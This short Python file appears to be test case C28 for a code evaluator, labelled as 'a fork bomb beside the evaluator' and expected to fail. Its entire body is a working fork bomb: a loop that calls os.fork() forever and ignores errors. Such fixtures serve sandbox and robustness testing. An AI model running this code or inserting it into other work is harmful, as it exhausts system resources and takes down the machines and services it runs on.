# C28: a fork bomb beside the evaluator
# ends: failed verdict_fail -
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
